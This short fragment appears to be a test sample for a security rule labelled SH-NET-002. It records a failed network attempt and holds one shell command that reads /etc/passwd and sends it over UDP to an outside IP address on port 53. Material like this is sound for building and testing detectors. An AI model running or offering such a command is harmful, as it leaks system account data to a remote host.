# rule: SH-NET-002
# attempts: connect: Network is unreachable
cat /etc/passwd > /dev/udp/192.0.2.55/53
